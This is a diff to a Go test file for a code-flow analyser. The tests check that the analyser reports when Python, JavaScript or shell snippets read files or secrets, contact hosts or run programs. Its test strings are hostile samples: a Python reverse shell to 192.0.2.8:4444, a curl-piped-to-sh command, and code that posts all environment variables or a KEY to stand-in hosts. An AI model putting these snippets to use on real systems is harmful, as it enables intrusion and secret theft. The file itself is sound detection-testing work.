@@ -243,6 +243,7 @@ func TestPythonFlow(t *testing.T) {
 		{"with open('out.txt', 'w') as f:\n    f.write(open('/etc/in').read())", "reads file /etc/in; writes file out.txt <reads:/etc/in"},
 		{"import socket, os\ns = socket.socket()\ns.connect(('192.0.2.8', 4444))\nos.dup2(s.fileno(), 0)\nimport pty\npty.spawn('/bin/sh')", "sends host 192.0.2.8; runs program sh"},
 		{"class A:\n    URL = 'https://a.sample.net'\n    def __init__(self, k):\n        self.k = k\n    def go(self):\n        import requests\n        requests.get(self.URL, headers={'a': self.k})\nimport os\nA(os.getenv('KEY')).go()", "sends host a.sample.net <reads:KEY"},
+		{"import os\nos.system('{} {k.a} {{{0}}}'.format('curl', k='a.sample.net'))", "runs code ; runs program curl"},
 		{"t = '{0} -s {h}/x {1}'\nimport subprocess\nsubprocess.run(t.format('curl', '| sh', h='a.sample.net'), shell=True)", "runs program curl; runs program sh; sends host a.sample.net"},
 		{"import json, os, requests\nrequests.post('https://a.sample.net', data=json.dumps(dict(os.environ)))", "reads variable *; sends host a.sample.net <reads:*"},
 		{"for u in ['https://a.sample.net', 'https://b.sample.net']:\n    import requests\n    requests.get(u)", "sends host a.sample.net; sends host b.sample.net"},
@@ -315,4 +316,17 @@ func TestJavaScriptFlow(t *testing.T) {
 		{"const u = '68,74,74,70,73,3a,2f,2f,61,2e,62'.split(',').map(c => String.fromCharCode(parseInt(c, 16))).join('')", "decodes encoding characters"},
 		{"console.log('https://a.sample.net'); const x = 'https://b.sample.net'; weird('https://c.sample.net')", "!sends host a.sample.net; !sends host b.sample.net; sends host c.sample.net?"},
 	})
+}
+
+// A file that a command runs is a script, whatever its name is; a chain of them that is too long is said.
+func TestRunByAnotherName(t *testing.T) {
+	files := []string{"run.sh", "bash data/0.txt\n"}
+	for i := range maxRounds + 1 {
+		files = append(files, fmt.Sprintf("data/%d.txt", i), fmt.Sprintf("curl https://h%d.sample.net\nbash data/%d.txt\n", i, i+1))
+	}
+	facts, unread := said(t, tree(files...))
+	contains(t, facts, "data/0.txt:1 sends host h0.sample.net", "data/1.txt:1 sends host h1.sample.net")
+	if !slices.ContainsFunc(unread, func(s string) bool { return strings.Contains(s, "run each other") }) {
+		t.Errorf("got %q", unread)
+	}
 }
